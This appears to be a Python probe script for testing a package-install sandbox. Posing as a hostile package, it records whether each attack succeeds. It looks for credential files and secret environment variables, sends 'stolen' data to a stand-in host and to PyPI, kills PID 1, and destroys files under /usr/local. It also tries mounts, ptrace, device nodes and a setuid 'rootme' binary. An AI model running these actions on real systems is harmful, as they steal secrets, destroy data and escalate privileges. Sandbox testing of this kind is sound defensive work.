# What a hostile package tries while it is installed; `said` is what becomes of it.
import ctypes, errno, os, signal, socket, ssl, stat, subprocess, sys, urllib.request

libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, action, good="made", bad=None):
    try:
        action()
        said[name] = good
    except OSError as error:
        said[name] = bad or errno.errorcode.get(error.errno, "refused")


def call(number, *arguments):
    ctypes.set_errno(0)
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "system call")


said["uid"] = os.getuid()
lines = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
said["capabilities"] = [lines[name].strip().lstrip("0") or "0" for name in ("CapEff", "CapBnd", "CapInh", "CapAmb")]
said["variables"] = [name for name in os.environ if "KEY" in name or "TOKEN" in name or "OUTWORK" in name]
found = []
for path in HOST_PATHS + ["/root", "/etc/shadow", "/etc/ssh", "/var/lib/dpkg", "/home/agent/.ssh", "/etc/machine-id"]:
    if os.path.isdir(path) and os.listdir(path) or os.path.isfile(path):
        found.append(path)
said["host_files"] = found
secrets = []
for folder, _, names in os.walk("/usr/local"):
    for name in names:
        path = os.path.join(folder, name)
        try:
            found = os.lstat(path)
            if stat.S_ISREG(found.st_mode) and not found.st_mode & stat.S_IROTH and found.st_uid == 65534:
                open(path, "rb").read(1)
                secrets.append(path)
        except OSError:
            pass
said["host_secrets"] = secrets
said["workspace"] = sorted(os.listdir("/workspace"))


def fetch(url, data=None):
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    return urllib.request.urlopen(url, data=data, timeout=20, context=context).read()


attempt("other_host", lambda: fetch("https://api.test.example/?stolen"), bad="refused")
try:
    fetch("https://pypi.org/legacy/", data=b"stolen")
    said["upload"] = "made"
except urllib.error.HTTPError as error:
    said["upload"] = error.code
attempt("by_address", lambda: socket.create_connection(("93.184.215.10", 443), 20).recv(1) or call(-1), bad="refused")
attempt("block_device", lambda: os.mknod("/usr/local/hostile-block", 0o666 | stat.S_IFBLK, os.makedev(254, 0)))
attempt("character_device", lambda: os.mknod("/usr/local/hostile-char", 0o666 | stat.S_IFCHR, os.makedev(1, 1)))
attempt("mount", lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, None))
attempt("unshare", lambda: call(272, 0x10000000))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("ptrace", lambda: call(101, 16, 1, 0, 0))
attempt("raw_socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(1, number)
    except OSError:
        pass
said["kill_hand"] = "alive"
attempt("hand_memory", lambda: open("/proc/1/mem", "rb").read(1), bad="refused")
attempt("hand_environment", lambda: open("/proc/1/environ", "rb").read(1), bad="refused")
attempt("system_program", lambda: open("/usr/bin/hostile", "w"), bad="refused")
attempt("system_settings", lambda: open("/etc/hostile", "w"), bad="refused")
for folder, _, names in os.walk("/usr/local"):
    for name in names:
        path = os.path.join(folder, name)
        for action in (lambda path: os.chmod(path, 0o777), lambda path: os.truncate(path, 0), os.unlink):
            try:
                action(path)
            except OSError:
                pass


def write(path, mode):
    with open(path, "w") as file:
        file.write("#!/bin/sh\nid -u\n")
    os.chmod(path, mode)


attempt("set_uid", lambda: write("/usr/local/bin/rootme", 0o4755))
attempt(
    "file_capabilities",
    lambda: os.setxattr("/usr/local/bin/rootme", "security.capability", bytes.fromhex("0100000200ff0000000000000000000000000000")),
    bad="refused",
)
attempt("pipe", lambda: os.mkfifo("/usr/local/bin/hostile-pipe"))
attempt("link", lambda: os.symlink("/etc/shadow", "/usr/local/bin/hostile-link"))
os.mkdir("/usr/local/hostile-folder")
attempt("opaque", lambda: os.setxattr("/usr/local/hostile-folder", "trusted.overlay.opaque", b"y"), bad="refused")
for path in ("/tmp/hostile", "/tmp/.home/hostile", "/workspace/hostile"):
    open(path, "w").close()
subprocess.Popen(["/bin/bash", "-c", "exec -a hostile-mark sleep 1000"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
